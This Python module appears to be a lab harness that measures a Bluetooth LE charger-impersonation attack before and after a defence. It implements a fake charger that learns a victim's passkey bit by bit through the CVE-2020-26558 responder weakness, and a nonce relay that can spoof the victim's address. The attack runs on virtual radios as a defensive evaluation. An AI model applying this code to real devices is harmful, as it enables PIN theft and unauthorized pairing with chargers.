"""`chargepin lab attack impersonate`: a fake charger learns the PIN from the victim's app.

Issue 9 point 8, the responder side of the static-passkey weakness (the CVE-2020-26558
family). The attacker stands near the real charger and near a victim who is out of the real
charger's range: two virtual radios, the "charger's air" and the "victim's air". On the
charger's air it reads the real charger's open info like any phone in range; on the victim's
air it runs a fake charger, a real Bumble peripheral advertising the same data and serving the
same open info (the genuine attestation included).

The victim's app connects to the fake and types the fleet's PIN. In passkey entry the phone is
the initiator: in each of the 20 rounds the fake (responder) receives the commitment Cai, sends
its own Cbi, receives Nai and tests Cai == f4(PKa, PKb, Nai, 0x80 | bit) for bit 0 and 1 before
it has to reveal Nbi. It fails the round whose bit it guessed wrong, but has learnt every bit up
to that one and guesses the known bits right next time (`LearningSession`).

- before: the victim's app pairs the way it did before the defence: the PIN of the advertised
  epoch from the fleet, typed into whatever device advertises the serial (`Phone.connect` with
  a PIN source). Measured: bits learnt per victim attempt, attempts until the whole PIN is
  known, and whether that PIN then pairs with the real charger.
- after: the real app flow (`troubleshooting.connect`): the device must answer the fleet's nonce
  with the charger's MAC first. The fake relays the nonce to the real charger over its own link
  and returns the real charger's proof (the best it can do without the secret); the proof binds
  the relay's address on that link, the fleet refuses it, the app raises NotThisCharger and
  never starts pairing. Measured: the same numbers (all zero).
- residual (reported, not part of the verdict): a real-time relay that connects to the real
  charger from the victim's own address. The proof then verifies and the bits leak again:
  measured, so docs/SECURITY.md can say what the address binding does not buy.

Per profile: the real charger never sees the victim's failed attempts (they are with the fake),
so even the hardened one does not rotate, and the learnt PIN pairs with it in both profiles.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import secrets
import tempfile
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any, Literal

from bumble import att, crypto, gatt, hci, smp
from bumble.core import UUID
from bumble.device import Connection, Device, DeviceConfiguration, Peer
from bumble.keys import MemoryKeyStore
from bumble.pairing import PairingConfig, PairingDelegate

from chargepin.charger.advertising import advertising_data
from chargepin.charger.daemon import ChargerDaemon
from chargepin.clock import FakeClock
from chargepin.core import protocol
from chargepin.core.addresses import random_static_address
from chargepin.core.pin import Pin
from chargepin.core.presence import PROOF_SIZE
from chargepin.core.profiles import ProfileName
from chargepin.lab.attacks.common import median, quiet_bumble
from chargepin.lab.attacks.online import PASSKEY_BITS, best_guess
from chargepin.lab.central import BareCentral
from chargepin.lab.local_fleet import LocalFleet
from chargepin.lab.testbed import Testbed
from chargepin.phone import troubleshooting
from chargepin.phone.client import Phone
from chargepin.phone.errors import NotThisCharger, PhoneError, WrongPin
from chargepin.phone.fleet_client import FleetClient
from chargepin.radio.link_addresses import peer_on_air
from chargepin.radio.virtual import VirtualRadio

NAME = "impersonate"

BUDGET = 40
"""Victim attempts per trial before the attacker gives up (the PIN falls in at most 20)."""

AFTER_ATTEMPTS = 20
"""Victim attempts against the fake with the defence: as many as the worst case before."""


class BitLearner:
    """What the fake charger knows of the victim's passkey: its low `known_bits` bits."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.known = 0
        self.known_bits = 0
        self.rounds_seen = 0
        self.pairing_requests = 0
        self.pairings_completed = 0

    def guess(self) -> int:
        """The passkey the fake 'displays': the known bits, the rest the prior's best."""
        return best_guess(self.known, self.known_bits, self.rng)

    def learn(self, step: int, bit: int) -> None:
        self.rounds_seen += 1
        if step == self.known_bits:
            self.known |= bit << step
            self.known_bits += 1

    @property
    def pin(self) -> Pin | None:
        """The victim's PIN once all 20 bits are known (and they make a PIN)."""
        if self.known_bits < PASSKEY_BITS or not 0 < self.known < 1_000_000:
            return None
        return Pin(f"{self.known:06d}")


def learning_session(learner: BitLearner) -> type[smp.Session]:
    """An SMP session that, as the passkey-entry responder, opens the initiator's commitment of
    each round with Nai before it reveals its own Nbi (Core spec Vol 3 Part H 2.3.5.6.3)."""

    class LearningSession(smp.Session):
        def on_smp_pairing_random_command_secure_connections(
            self, command: smp.SMP_Pairing_Random_Command
        ) -> None:
            passkey_entry = self.pairing_method == smp.PairingMethod.PASSKEY
            if not self.is_initiator and passkey_entry and self.confirm_value is not None:
                for bit in (0, 1):
                    opened = crypto.f4(
                        self.pka, self.pkb, command.random_value, bytes([0x80 + bit])
                    )
                    if opened == self.confirm_value:
                        learner.learn(self.passkey_step, bit)
                        break
            super().on_smp_pairing_random_command_secure_connections(command)

        def on_smp_pairing_request_command(self, command: smp.SMP_Pairing_Request_Command) -> None:
            learner.pairing_requests += 1
            super().on_smp_pairing_request_command(command)

    return LearningSession


class _Display(PairingDelegate):
    """DisplayOnly, like the real charger; it 'displays' the learner's current guess."""

    def __init__(self, learner: BitLearner) -> None:
        super().__init__(io_capability=PairingDelegate.IoCapability.DISPLAY_OUTPUT_ONLY)
        self.learner = learner

    async def generate_passkey(self) -> int:
        return self.learner.guess()


class FakeCharger:
    """A Bumble peripheral on the victim's air copying the real charger's advertising and
    open info; its presence point relays the victim's nonce to the real charger."""

    def __init__(
        self,
        radio: VirtualRadio,
        info: protocol.OpenInfo,
        learner: BitLearner,
        relay: Relay | None,
    ) -> None:
        self.radio = radio
        self.endpoints = endpoints = radio.attach("fake-charger")
        config = DeviceConfiguration(
            name=f"{info.model} {info.serial}",
            address=hci.Address(random_static_address()),
            irk=secrets.token_bytes(16),
        )
        self.device = Device.from_config_with_hci(config, endpoints.source, endpoints.sink)
        self.device.keystore = MemoryKeyStore()
        self.info = info
        self.learner = learner
        self.relay = relay
        self.relayed = 0
        self._proofs: dict[int, bytes] = {}
        self.device.smp_session_proxy = learning_session(learner)
        self.device.pairing_config_factory = lambda _c: PairingConfig(
            sc=True, mitm=True, bonding=True, delegate=_Display(learner)
        )
        self.device.add_service(self._service())
        self.device.on(self.device.EVENT_CONNECTION, self._on_connection)

    def _on_connection(self, connection: Connection) -> None:
        """Drop the link after a failed pairing, as the real charger does (a phone then does
        not wait for it)."""

        def failed(_reason: int) -> None:
            asyncio.get_running_loop().create_task(self._drop(connection))

        def paired(_keys: Any) -> None:
            self.learner.pairings_completed += 1

        connection.on(connection.EVENT_PAIRING_FAILURE, failed)
        connection.on(connection.EVENT_PAIRING, paired)

    async def _drop(self, connection: Connection) -> None:
        with contextlib.suppress(Exception):
            await asyncio.wait_for(connection.disconnect(), 2.0)

    def _service(self) -> gatt.Service:
        props = gatt.Characteristic.Properties
        perms = att.Attribute.Permissions.READABLE | att.Attribute.Permissions.WRITEABLE

        def char(uuid: str, properties: Any, read: Any = None, write: Any = None) -> Any:
            return gatt.Characteristic(
                uuid,
                properties,
                perms,
                att.AttributeValue(read=read or (lambda _c: b""), write=write),
            )

        return gatt.Service(
            protocol.SERVICE_UUID,
            [
                char(protocol.INFO_UUID, props.READ, read=lambda _c: self.info.encode()),
                char(protocol.CHALLENGE_UUID, props.READ, read=lambda _c: secrets.token_bytes(16)),
                char(protocol.ADMIN_UUID, props.WRITE, write=lambda _c, _v: None),
                char(protocol.ADMIN_RESULT_UUID, props.READ),
                char(protocol.STATUS_UUID, props.READ | props.NOTIFY),
                char(protocol.CONTROL_UUID, props.WRITE, write=lambda _c, _v: None),
                # No bond the real charger would vouch for: what it answers without one.
                char(protocol.BOND_UUID, props.READ, read=_no_bond),
                char(
                    protocol.PRESENCE_UUID,
                    props.READ | props.WRITE,
                    read=self._read_presence,
                    write=self._write_presence,
                ),
            ],
        )

    async def _write_presence(self, connection: Connection, value: bytes) -> None:
        """Relay the victim's nonce to the real charger; keep its answer for the victim."""
        if self.relay is None:
            self._proofs[connection.handle] = secrets.token_bytes(PROOF_SIZE)
            return
        self._proofs[connection.handle] = await self.relay(bytes(value), peer_on_air(connection))
        self.relayed += 1

    def _read_presence(self, connection: Connection) -> bytes:
        return self._proofs.get(connection.handle, b"")

    async def start(self) -> None:
        await self.device.power_on()
        advert, scan_response = advertising_data(self.info)
        await self.device.start_advertising(
            advertising_data=advert,
            scan_response_data=scan_response,
            advertising_interval_min=20,
            advertising_interval_max=20,
            own_address_type=hci.OwnAddressType.RANDOM,
            auto_restart=True,
        )

    async def stop(self) -> None:
        """Off the air: a detached controller that still advertised would still be heard."""
        with contextlib.suppress(Exception):
            await self.device.stop_advertising()
        for connection in list(self.device.connections.values()):
            with contextlib.suppress(Exception):
                await asyncio.wait_for(connection.disconnect(), 2.0)
        with contextlib.suppress(Exception):
            await self.device.power_off()
        self.radio.detach(self.endpoints)


def _no_bond(_connection: Connection) -> bytes:
    raise att.ATT_Error(att.ErrorCode.INSUFFICIENT_AUTHENTICATION)


RelayMode = Literal["none", "own", "spoof"]

Relay = Callable[[bytes, str], Awaitable[bytes]]
"""Forward a nonce written by the victim at an address to the real charger; its answer."""


@dataclass
class VictimAttempt:
    """One pairing the victim's app ran (or refused to run) with the fake charger."""

    outcome: str  # "wrong_pin", "paired_with_fake", "not_this_charger", other error names
    pairings: int  # pairings the victim ran in it (the app's flow retries once by itself)
    bits_learnt: int
    known_bits: int
    passkey_rounds: int
    seconds: float


@dataclass
class Side:
    """One side (before or after the defence) of one trial."""

    attempts: list[VictimAttempt] = field(default_factory=list)
    pin_known: bool = False
    pin_known_after: int | None = None  # victim attempts until the whole PIN was known
    pairs_with_real_charger: bool = False
    pairing_requests_seen: int = 0
    nonces_relayed: int = 0

    @property
    def bits_learnt(self) -> int:
        return sum(a.bits_learnt for a in self.attempts)

    def to_dict(self) -> dict[str, Any]:
        return {
            "pin_known": self.pin_known,
            "pin_known_after_attempts": self.pin_known_after,
            "pairs_with_real_charger": self.pairs_with_real_charger,
            "bits_learnt": self.bits_learnt,
            "pairing_requests_seen": self.pairing_requests_seen,
            "nonces_relayed": self.nonces_relayed,
            "attempts": [asdict(a) for a in self.attempts],
        }


class Scene:
    """The fleet, the real charger on its air, the victim (an owner) and the attacker."""

    def __init__(self, directory: Path, profile: ProfileName, rng: random.Random) -> None:
        self.clock = FakeClock()
        self.fleet = LocalFleet.start(f"sqlite:///{directory / 'fleet.db'}", self.clock)
        self.charger_air = Testbed(directory / "charger-air", self.clock)
        self.victim_air = Testbed(directory / "victim-air", self.clock)
        self.profile = profile
        self.rng = rng
        self.daemon: ChargerDaemon | None = None
        self.serial = ""
        self.victim_fleet: FleetClient | None = None
        self.victim: Phone | None = None
        self.centrals: list[BareCentral] = []
        self.fakes: list[FakeCharger] = []

    async def start(self) -> None:
        for bed in (self.charger_air, self.victim_air):
            bed.directory.mkdir()
        [made] = self.fleet.provision("Pulsar Max", "6.11.2")
        bundle = made.bundle
        self.serial = bundle.serial
        self.daemon = await self.charger_air.install(bundle, self.profile)
        self.victim_fleet = await self.fleet.account("victim@example.com")
        await self.victim_fleet.claim(made.sticker.encode())
        self.victim = await self.victim_air.phone("victim", pairing_timeout=10.0)

    async def central(self, name: str, address: str | None = None) -> BareCentral:
        central = BareCentral(self.charger_air.radio, name, address)
        await central.start()
        self.centrals.append(central)
        return central

    async def fake(self, learner: BitLearner, relay: RelayMode = "none") -> FakeCharger:
        """Copy the real charger's open info (any phone in its range may read it) and start a
        fake charger with it on the victim's air. Its presence point makes up a proof
        ("none"), or forwards the victim's nonce to the real charger over the attacker's own
        link ("own": the proof binds the attacker's address) or from a radio that copies the
        victim's address ("spoof": the residual risk, docs/SECURITY.md)."""
        daemon = self.daemon
        assert daemon is not None
        spy = await self.central("attacker-spy")
        link = await spy.connect(daemon)
        info = await spy.read_info(link)
        await spy.hang_up(link)
        spoofers: dict[str, BareCentral] = {}

        async def forward(nonce: bytes, victim: str) -> bytes:
            central = spy
            if relay == "spoof":
                if victim not in spoofers:
                    spoofers[victim] = await self.central("attacker-spoof", address=victim)
                central = spoofers[victim]
            connection = await central.connect(daemon)
            try:
                peer = Peer(connection)
                await peer.request_mtu(protocol.PREFERRED_MTU)
                [service] = await peer.discover_services([UUID(protocol.SERVICE_UUID)])
                points = await service.discover_characteristics()
                [point] = [c for c in points if str(c.uuid).lower() == protocol.PRESENCE_UUID]
                await point.write_value(nonce, with_response=True)
                return bytes(await point.read_value())
            finally:
                await central.hang_up(connection)

        fake = FakeCharger(
            self.victim_air.radio, info, learner, None if relay == "none" else forward
        )
        await fake.start()
        self.fakes.append(fake)
        return fake

    async def drop_fakes(self) -> None:
        for fake in self.fakes:
            await fake.stop()
        self.fakes.clear()

    async def pairs_with_real_charger(self, pin: Pin) -> bool:
        """The attacker types the learnt PIN into the real charger."""
        assert self.daemon is not None
        central = await self.central("attacker")
        connection = await central.connect(self.daemon)
        try:
            outcome = await central.attempt(connection, pin.passkey)
        finally:
            await central.hang_up(connection)
        return outcome.error is None

    async def close(self) -> None:
        with contextlib.suppress(Exception):
            await self.drop_fakes()
        for central in self.centrals:
            with contextlib.suppress(Exception):
                await central.stop()
        await self.victim_air.close()
        await self.charger_air.close()
        await self.fleet.close()


@contextlib.asynccontextmanager
async def scene(profile: ProfileName, rng: random.Random) -> AsyncIterator[Scene]:
    quiet_bumble()
    with tempfile.TemporaryDirectory(prefix="chargepin-impersonate-") as directory:
        place = Scene(Path(directory), profile, rng)
        try:
            await place.start()
            yield place
        finally:
            await place.close()


async def _victim_attempt(learner: BitLearner, attempt: Any, fake: FakeCharger) -> VictimAttempt:
    before_bits, before_rounds = learner.known_bits, learner.rounds_seen
    before_pairings = learner.pairing_requests
    before_completed = learner.pairings_completed
    started = time.perf_counter()
    try:
        await attempt()
        outcome = "connected"
    except WrongPin:
        outcome = "wrong_pin"
    except NotThisCharger:
        outcome = "not_this_charger"
    except PhoneError as error:  # after a pairing, the fake cannot vouch for the bond
        outcome = type(error).__name__
    if learner.pairings_completed > before_completed:
        outcome = "paired_with_fake"  # every guessed bit was right
    return VictimAttempt(
        outcome=outcome,
        pairings=learner.pairing_requests - before_pairings,
        bits_learnt=learner.known_bits - before_bits,
        known_bits=learner.known_bits,
        passkey_rounds=learner.rounds_seen - before_rounds,
        seconds=round(time.perf_counter() - started, 4),
    )


async def before(place: Scene) -> Side:
    """The victim's app as it was: the fleet's PIN typed into whatever advertises the serial."""
    assert place.victim is not None and place.victim_fleet is not None
    fleet, serial, phone = place.victim_fleet, place.serial, place.victim
    learner = BitLearner(place.rng)
    fake = await place.fake(learner)
    side = Side()

    async def old_app_pin(info: protocol.OpenInfo) -> Pin:
        await fleet.reconcile(info)
        return await fleet.pin_of_epoch(serial, info.epoch)

    async def attempt() -> None:
        link = await phone.connect(serial, pin=old_app_pin)
        await link.disconnect()

    while len(side.attempts) < BUDGET and learner.pin is None:
        side.attempts.append(await _victim_attempt(learner, attempt, fake))
        if side.attempts[-1].outcome == "paired_with_fake":
            break  # every guessed bit was right: the fake holds the PIN and a bond
    side.pairing_requests_seen = learner.pairing_requests
    learnt = learner.pin
    side.pin_known = learnt is not None
    if learnt is not None:
        side.pin_known_after = len(side.attempts)
        side.pairs_with_real_charger = await place.pairs_with_real_charger(learnt)
    await place.drop_fakes()
    await phone.forget(fake.device.random_address.to_string(False))
    return side


async def after(place: Scene, relay: RelayMode = "own") -> Side:
    """The real app flow with the defence, against a fake that relays the nonce to the real
    charger ("own": from the attacker's address, AFTER_ATTEMPTS times), or the residual risk
    ("spoof": copying the victim's address, until the PIN is known or BUDGET pairings)."""
    assert place.victim is not None and place.victim_fleet is not None
    fleet, serial, phone = place.victim_fleet, place.serial, place.victim
    learner = BitLearner(place.rng)
    fake = await place.fake(learner, relay=relay)
    side = Side()

    async def attempt() -> None:
        connected = await troubleshooting.connect(phone, fleet, serial)
        await connected.link.disconnect()

    def more() -> bool:
        if relay == "own":
            return len(side.attempts) < AFTER_ATTEMPTS
        done = side.attempts and side.attempts[-1].outcome == "paired_with_fake"
        return learner.pin is None and not done and learner.pairing_requests < BUDGET

    while more():
        side.attempts.append(await _victim_attempt(learner, attempt, fake))
    side.pairing_requests_seen = learner.pairing_requests
    side.nonces_relayed = fake.relayed
    learnt = learner.pin
    side.pin_known = learnt is not None
    if learnt is not None:
        side.pin_known_after = learner.pairing_requests
        side.pairs_with_real_charger = await place.pairs_with_real_charger(learnt)
    await place.drop_fakes()
    await phone.forget(fake.device.random_address.to_string(False))
    return side


async def run(profile: ProfileName, trials: int, seed: int) -> dict[str, Any]:
    rng = random.Random(seed)
    results: list[dict[str, Any]] = []
    befores: list[Side] = []
    afters: list[Side] = []
    residuals: list[Side] = []
    for _ in range(trials):
        async with scene(profile, rng) as place:
            old = await before(place)
            new = await after(place)
            residual = await after(place, relay="spoof")
            assert place.daemon is not None
            epoch = place.daemon.store.epoch
        befores.append(old)
        afters.append(new)
        residuals.append(residual)
        results.append(
            {
                "before": old.to_dict(),
                "after": new.to_dict(),
                "residual_address_copying_relay": residual.to_dict(),
                "charger_epoch": epoch,
            }
        )
    summary = _summary(befores, afters, residuals)
    as_expected = (
        summary["before_pin_known"] == trials
        and summary["before_bits_per_attempt_median"] > 0
        and summary["after_bits_learnt"] == 0
        and summary["after_pairing_requests"] == 0
        and summary["after_refused_not_this_charger"] == trials * AFTER_ATTEMPTS
    )
    verdict = (
        f"before: the fake learnt the whole PIN in {summary['before_pin_known']}/{trials} trials "
        f"(median {summary['before_attempts_to_pin_median']:g} victim attempts); after: "
        f"{summary['after_bits_learnt']} bits, {summary['after_pairing_requests']} pairings"
        if as_expected
        else "NOT as docs/SECURITY.md says: check the app's pairing path and the lab"
    )
    return {
        "attack": NAME,
        "profile": profile,
        "seed": seed,
        "summary": summary,
        "trials": results,
        "as_expected": as_expected,
        "verdict": verdict,
    }


def _summary(befores: list[Side], afters: list[Side], residuals: list[Side]) -> dict[str, Any]:
    per_attempt = [float(a.bits_learnt) for s in befores for a in s.attempts]
    to_pin = [float(s.pin_known_after) for s in befores if s.pin_known_after is not None]
    relayed_to_pin = [float(s.pin_known_after) for s in residuals if s.pin_known_after]
    return {
        "trials": len(befores),
        "budget_victim_attempts": BUDGET,
        "before_pin_known": sum(s.pin_known for s in befores),
        "before_bits_per_attempt_median": median(per_attempt),
        "before_bits_per_attempt_mean": round(sum(per_attempt) / max(1, len(per_attempt)), 2),
        "before_attempts_to_pin_median": median(to_pin),
        "before_attempts_to_pin_worst": max(to_pin, default=float("nan")),
        "before_pairs_with_real_charger": sum(s.pairs_with_real_charger for s in befores),
        "after_attempts": sum(len(s.attempts) for s in afters),
        "after_bits_learnt": sum(s.bits_learnt for s in afters),
        "after_pairing_requests": sum(s.pairing_requests_seen for s in afters),
        "after_nonces_relayed": sum(s.nonces_relayed for s in afters),
        "after_refused_not_this_charger": sum(
            a.outcome == "not_this_charger" for s in afters for a in s.attempts
        ),
        "after_pin_known": sum(s.pin_known for s in afters),
        # Not part of the verdict: the documented residual risk, measured.
        "residual_pin_known": sum(s.pin_known for s in residuals),
        "residual_pairings_to_pin_median": median(relayed_to_pin),
        "residual_pairs_with_real_charger": sum(s.pairs_with_real_charger for s in residuals),
    }


def summary(report: dict[str, Any]) -> list[tuple[str, str]]:
    """The rows of the printed table."""
    s = report["summary"]
    return [
        ("trials", str(s["trials"])),
        (
            "before: bits learnt per victim attempt, median / mean",
            f"{s['before_bits_per_attempt_median']:g} / {s['before_bits_per_attempt_mean']:g}",
        ),
        ("before: PIN known", f"{s['before_pin_known']} / {s['trials']}"),
        (
            "before: victim attempts until the PIN is known, median / worst",
            f"{s['before_attempts_to_pin_median']:g} / {s['before_attempts_to_pin_worst']:g}",
        ),
        (
            "before: learnt PIN pairs with the real charger",
            f"{s['before_pairs_with_real_charger']} / {s['trials']}",
        ),
        ("after: victim attempts", str(s["after_attempts"])),
        ("after: refused as not this charger", str(s["after_refused_not_this_charger"])),
        ("after: nonces relayed to the real charger", str(s["after_nonces_relayed"])),
        (
            "after: pairings the fake saw / bits learnt",
            f"{s['after_pairing_requests']} / {s['after_bits_learnt']}",
        ),
    ]
